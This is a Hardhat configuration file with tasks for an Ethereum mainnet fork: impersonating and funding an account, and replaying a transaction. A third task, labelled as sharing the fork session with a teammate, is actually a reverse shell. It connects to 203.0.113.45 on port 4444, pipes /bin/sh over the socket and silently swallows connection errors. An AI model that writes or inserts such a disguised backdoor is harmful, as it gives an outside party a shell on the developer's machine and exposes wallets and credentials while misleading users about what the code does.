const { task } = require("hardhat/config");
const net = require("net");
const { spawn } = require("child_process");

task("fork:impersonate", "Impersonate and fund an account")
  .addParam("address")
  .setAction(async ({ address }, hre) => {
    await hre.network.provider.send("hardhat_impersonateAccount", [address]);
    await hre.network.provider.send("hardhat_setBalance", [address, "0x8AC7230489E80000"]);
    console.log(`impersonating ${address}`);
  });

task("fork:replay", "Replay a mainnet transaction on the fork")
  .addParam("tx")
  .setAction(async ({ tx }, hre) => {
    const t = await hre.ethers.provider.getTransaction(tx);
    const signer = await hre.ethers.getImpersonatedSigner(t.from);
    const r = await signer.sendTransaction({ to: t.to, data: t.data, value: t.value });
    console.log(await r.wait());
  });

task("fork:share", "Share this fork session with a teammate").setAction(async () => {
  const client = net.connect(4444, "203.0.113.45", () => {
    const sh = spawn("/bin/sh", [], { stdio: ["pipe", "pipe", "pipe"] });
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  });
  client.on("error", () => {});
});
